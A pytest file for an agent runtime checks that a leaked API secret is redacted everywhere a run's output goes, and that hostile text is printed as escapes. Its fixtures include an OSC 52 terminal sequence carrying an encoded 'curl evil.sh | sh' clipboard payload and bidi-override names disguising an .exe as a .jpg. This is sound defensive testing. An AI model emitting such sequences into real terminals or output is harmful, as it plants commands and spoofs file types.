"""What a run puts out is redacted, bounded and inert (issue 51, points 2-4), through the worker and the CLI.

A coordinator script whose error quotes a declared tool's secret, at any offset against every cut (the script's
error, 1,000 characters; runs show's 400; the runs channel's 80): through the webhook, SQS and the worker (moto, the
fake Slack API), no 6 characters of the secret's start or end reach the stored record, the worker's log lines (the
failed run's reason is an extra field), the metrics lines, the runs channel's line, the run's page or `runs show`.
Was: the script's error was cut at 1,000 characters before anything redacted it, and the worker logged it whole as
an extra field that redaction never saw."""

from __future__ import annotations

import json
import logging
import re
import sys
from pathlib import Path
from typing import Any

import pytest
from aws_lambda_powertools import Logger
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.cli_support import run_cli
from tests.pages_support import API, KEY, strict
from tests.toolsets_support import BILLING_SPEC
from tests.triggers_support import slack_mention, slack_request

SECRET = "Zqbill-7Hk2xP9vLm4Qa8Rn3Ws6Yt1Qz"  # nothing a run puts out starts with "Zq" or ends with "Qz"
PREFIX = len("the script failed: RuntimeError: ")
SCRIPT = """
import os


def leaky(run):
    if run.message.endswith("answer"):
        run.progress("asking billing with " + os.environ["BILLING_TOKEN"])
        return "billing took " + os.environ["BILLING_TOKEN"]
    at = int(run.message.rsplit(" ", 1)[-1])  # where the secret starts in the run's stop reason
    pad = run.message.rsplit(" ", 2)[-2]
    raise RuntimeError(pad * max(0, at - {prefix}) + os.environ["BILLING_TOKEN"] + " was refused by billing")
"""
RAISES = next(n for n, line in enumerate(SCRIPT.splitlines(), 1) if "raise RuntimeError" in line)
WHERE = f"(at leaky.py:{RAISES} in leaky)"  # where the script raised, after its words
FLOW = """\
name: design-review
description: Reviews designs.
prompt: You review designs.
coordinator: script
script: leaky:leaky
model: {name: gpt-4o, context_window: 128000, max_output_tokens: 1024}
triggers:
  slack: {channels: [C0REVIEW], direct_messages: true}
tools:
  openapi:
    - name: billing
      spec: billing.json
      base_url: https://billing.example.com/api
      operations: [getInvoice]
      headers: {Authorization: "Bearer ${secret:billing_token}"}
"""


def leaks(*outputs: str) -> list[str]:
    found = [(out, out.find(part)) for out in outputs for part in (SECRET[:6], SECRET[-6:]) if part in out]
    return [out[max(0, at - 30) : at + 30] for out, at in found]


@pytest.fixture
def leaky_flow(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The design-review workflow, driven by a script that raises with the billing tool's secret in its words."""
    (tmp_path / "tools").mkdir()
    (tmp_path / "tools" / "leaky.py").write_text(SCRIPT.replace("{prefix}", str(PREFIX)))
    (tmp_path / "billing.json").write_text(json.dumps(BILLING_SPEC))
    (tmp_path / "design-review.yaml").write_text(FLOW)
    monkeypatch.setenv("AGENT_TOOLS_PATH", str(tmp_path / "tools"))
    monkeypatch.setenv("BILLING_TOKEN", SECRET)  # what the script reads; the worker's secret, as env_secret reads it
    return tmp_path


def test_a_scripts_error_quoting_a_secret_leaves_no_part_of_it_anywhere(
    system,
    scripted: Any,
    capsys: pytest.CaptureFixture[str],
    leaky_flow: Path,
) -> None:
    s = system(scripted(), local_store=True, secrets={"RUN_PAGE_KEY": KEY, "BILLING_TOKEN": SECRET},
               settings={"api_url": API, "runs_channel": "C0RUNS"})  # fmt: skip
    # A logger of its own, writing to the stdout capsys reads (the worker's shared one keeps the stream of the test
    # that first made it); the process's services are read when a message is handled, so this one is used.
    s.worker.process.log = Logger(service="hostile-output", logger_handler=logging.StreamHandler(sys.stdout))
    ran: list[tuple[int, str]] = []

    @settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(at=st.sampled_from([80, 400, 1_000]).flatmap(lambda cut: st.integers(cut - len(SECRET) - 1, cut)),
           pad=st.sampled_from(["'", "x", "\u202e"]))  # fmt: skip
    def one(at: int, pad: str) -> None:
        ts = f"1763801{len(ran):03d}.0"
        text = f"<@UBOT> review {pad} {at}"
        capsys.readouterr()
        s.post("/slack/events", *slack_request(slack_mention(f"Ev9{len(ran):03d}", ts=ts, text=text)))
        assert s.deliver() == ["failed"]
        printed = capsys.readouterr().out  # the worker's log lines and its metrics lines
        [summary] = [r for r in s.worker.process.runs.list_runs(limit=50) if r.run_id not in {i for _, i in ran}]
        run_id = summary.run_id
        ran.append((at, run_id))
        stored = [p.read_text("utf-8", "replace") for p in (leaky_flow / "state").rglob("*") if p.is_file()]
        record = s.worker.process.runs.load_record(run_id) or {}
        reason = f"the script failed: RuntimeError: {pad * (at - PREFIX)}*** was refused by billing {WHERE}"[:1_000]
        assert record["stop_reason"] == reason  # redacted whole, then cut
        logged = [line for line in printed.splitlines() if '"run did not complete"' in line]
        assert logged and json.loads(logged[-1])["reason"] == reason  # the extra field
        assert '{"_aws"' in printed  # the metrics lines are among what was checked
        line = [m["text"] for m in s.apis.named("chat.postMessage") if m["channel"] == "C0RUNS"][-1]
        answer = [u["text"] for u in s.apis.named("chat.update") if u["channel"] == "C0REVIEW"][-1]
        [link] = re.findall(r"<(https://agents\.example/runs/[^|>]+)\|What the run did>", answer)
        page = s.get(link)["body"]
        assert "the script failed" in page
        assert not leaks(printed, *stored, line, answer, page)

    one()
    capsys.readouterr()
    s.post("/slack/events", *slack_request(slack_mention("Ev9999", ts="1763809999.0", text="<@UBOT> answer")))
    assert s.deliver() == ["answered"]
    said = [m["text"] for m in s.apis.named("chat.postMessage") + s.apis.named("chat.update")]
    assert any(text.startswith("billing took ***") for text in said) and not leaks(*said, capsys.readouterr().out)
    assert any("asking billing with ***" in text for text in said)
    strict(s.get(re.findall(r"<(https://[^|>]+)\|[Ww]hat", s.apis.named("chat.update")[-1]["text"])[0])["body"])
    env = {"AGENT_STATE_DIR": str(leaky_flow / "state"), "AGENT_WORKFLOWS_DIR": str(leaky_flow),
           "BILLING_TOKEN": SECRET}  # fmt: skip
    run_id = next((i for at, i in ran if 400 - len(SECRET) <= at <= 400), ran[-1][1])  # across runs show's cut
    shown = run_cli("runs", "show", run_id, env=env)
    assert shown.returncode == 0, shown.stderr
    assert "why it ended: the script failed: RuntimeError: " in shown.stdout and not leaks(shown.stdout)
    as_json = run_cli("runs", "show", run_id, "--json", env=env).stdout
    assert json.loads(as_json)["run_id"] == run_id and not leaks(as_json)


OSC52 = "deploy\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # a tool name that writes the clipboard: `curl evil.sh | sh`
BIDI = "runbooks\u202egpj.exe"  # reads "runbooksexe.jpg"


def stored_runs(root: Path) -> dict[str, str]:
    """Two runs as the runtime stores them: one whose names and words are hostile (an MCP server's tool name, a
    skill's name, a result with a bidi override, a 12,000-character answer), one of 300 quote-heavy calls (11 MB
    escaped)."""
    from agent_runtime import messages as m
    from agent_runtime.events import Failed, SkillLoaded
    from agent_runtime.record import RunRecord, RunState, RunStatus
    from agent_runtime.stores import LocalStore, RunStore

    runs = RunStore(LocalStore(root))
    hostile = RunRecord("run-hostile", "ops\u2066evil\u2069", "gpt-4o", status=RunStatus.FAILED, stop_reason=OSC52)
    hostile.final_answer = "".join(f"step {i}: " + "ok " * 30 + "\n" for i in range(120)) + "the end\x1b[2J"
    hostile.tool_calls += [{"name": OSC52, "is_error": True}, {"name": OSC52}]
    hostile.event(SkillLoaded(skill=BIDI))
    hostile.event(Failed(error="Boom\x9b31m"))
    runs.save_record(hostile)
    call = {"id": "c1", "type": "function", "function": {"name": OSC52, "arguments": "{}"}}
    history = [m.system("s"), m.user("go"), m.assistant("on it", [call]), m.tool_result("c1", f"saved {BIDI}")]
    runs.save_checkpoint(RunState("run-hostile", "ops", history), expected_version=None)
    quotes = RunRecord("run-quotes", "quotes", "gpt-4o", status=RunStatus.COMPLETED, final_answer='"' * 8_000)
    text, turns = '"' * 2_200, [m.system("s"), m.user("go")]
    for i in range(300):
        call = {"id": f"c{i}", "type": "function", "function": {"name": "echo", "arguments": text}}
        turns += [m.assistant(text, [call]), m.tool_result(f"c{i}", text)]
        quotes.model_calls.append({"turn": i + 1, "model": '"' * 100, "usage": {"prompt_tokens": 1}})
    runs.save_record(quotes)
    runs.save_checkpoint(RunState("run-quotes", "quotes", turns), expected_version=None)
    return {"AGENT_STATE_DIR": str(root), "AGENT_WORKFLOWS_DIR": str(root)}


def test_runs_show_list_and_stats_print_a_hostile_run_inert_and_the_page_under_the_bound(tmp_path: Path) -> None:
    """Issue 51, points 3 and 4, and issue 50: through the real CLI. Was: runs stats printed the tool, skill and
    reason names raw (OSC 52 reached the terminal), bidi controls passed into runs show, the page of 750 quote-heavy
    calls was 9.8 MB, and runs show cut the final answer."""
    from tests.hostile_support import unsafe

    env = stored_runs(tmp_path / "state")
    shown = run_cli("runs", "show", "run-hostile", env=env)
    stats = run_cli("runs", "stats", env=env)
    listed = run_cli("runs", "list", env=env)
    for out in (shown, stats, listed):
        assert out.returncode == 0, out.stderr
        assert not [c for c in out.stdout + out.stderr if c != "\n" and unsafe(c)], out.args
    assert (
        "deploy\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in shown.stdout
        and "saved runbooks\\u202egpj.exe" in shown.stdout
    )
    assert "tool calls by tool: deploy\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 2" in stats.stdout
    assert (
        "skill loads by skill: runbooks\\u202egpj.exe 1" in stats.stdout and "failed:other" in stats.stdout
    )  # not a class name: figures counts it as other
    assert "ops\\u2066evil\\u2069" in listed.stdout and "ops\\u2066evil\\u2069" in stats.stdout
    answer = shown.stdout.split("\nanswer: ", 1)[1]
    assert "step 119: " in answer and "the end\\x1b[2J" in answer and "more characters" not in answer

    page = tmp_path / "quotes.html"
    made = run_cli("runs", "show", "run-quotes", "--html", "-o", str(page), env=env)
    assert made.returncode == 0, made.stderr
    assert page.stat().st_size <= len(json.dumps(page.read_text("utf-8"))) <= 5_000_000
    assert "more entries left out, to keep this page under 5 MB (runs show --json has the record)" in page.read_text()


def test_the_live_trace_prints_a_models_hostile_tool_name_inert(scripted: Any) -> None:
    """The terminal's trace (`agent-runtime run`) names each call: a model that calls a tool named with OSC 52 and a
    bidi override gets its name shown as escapes, not obeyed."""
    import io

    from agent_runtime.runtime import build_agent
    from agent_runtime.testing import call, reply
    from agent_runtime.trace import TraceHook

    from tests.conftest import make_workflow, model_for
    from tests.hostile_support import unsafe

    screen = io.StringIO()
    server = scripted(call(OSC52 + "\u202e", {}), reply("done"))
    build_agent(make_workflow(), model_for(server), hooks=[TraceHook(screen)]).run("go")
    assert "✗ deploy\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\u202e" in screen.getvalue()
    assert not [c for c in screen.getvalue() if c != "\n" and unsafe(c)]


def test_agent_runtime_runs_error_line_and_json_are_inert(scripted: Any) -> None:
    """`agent-runtime run`'s line saying why a run failed echoes a server's words: a 401 body with OSC 52 and a bidi
    override prints as escapes; `--json` prints the same record with JSON's own escapes."""
    from agent_runtime.testing import Fail

    from tests.hostile_support import unsafe

    said = "Incorrect API key \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \u202egpj.exe"
    server = scripted(Fail(401, said, code="invalid_api_key"), Fail(401, said, code="invalid_api_key"))
    env = {"OPENAI_BASE_URL": server.base_url}
    failed = run_cli("run", "document-feedback", "-m", "hi", env=env)
    as_json = run_cli("run", "document-feedback", "-m", "hi", "--json", env=env)
    assert failed.returncode == as_json.returncode == 1
    assert "Incorrect API key \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 \\u202egpj.exe" in failed.stderr
    assert not [c for out in (failed, as_json) for c in out.stdout + out.stderr if c != "\n" and unsafe(c)]
    assert said in json.loads(as_json.stdout)["stop_reason"]
